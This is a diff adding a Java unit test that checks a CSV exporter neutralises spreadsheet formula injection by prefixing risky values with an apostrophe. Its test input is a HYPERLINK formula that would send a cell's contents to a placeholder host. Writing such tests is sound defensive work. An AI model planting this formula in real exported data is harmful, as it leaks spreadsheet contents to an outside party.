@@ -30,6 +30,17 @@ class CohortCsvTest {
     }
 
     @Test
+    void aNameThatBeginsLikeAFormulaStaysText() {
+        String formula = "=HYPERLINK(\"http://x.invalid/?\"&D2,\"klik\")";
+        String csv = CohortCsv.write(List.of(new CohortCsv.Row(12, 43, formula, NIK, "ENROLLED",
+                LocalDate.of(2025, 1, 6), null, false, null, null)), true);
+        assertThat(csv).contains("12,43,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&D2,\"\"klik\"\")\",");
+        assertThat(List.of("+1", "-1", "@SUM(A1)", "\tx", "\rx")).allSatisfy(value ->
+                assertThat(CohortCsv.asText(value)).isEqualTo("'" + value));
+        assertThat(CohortCsv.asText("Siti = Aminah")).isEqualTo("Siti = Aminah");
+    }
+
+    @Test
     void theAuditNamesTheColumnsExported() {
         assertThat(CohortCsv.columns(false)).doesNotContain("nik").contains("fullName");
         assertThat(CohortCsv.columns(true)).contains("nik");
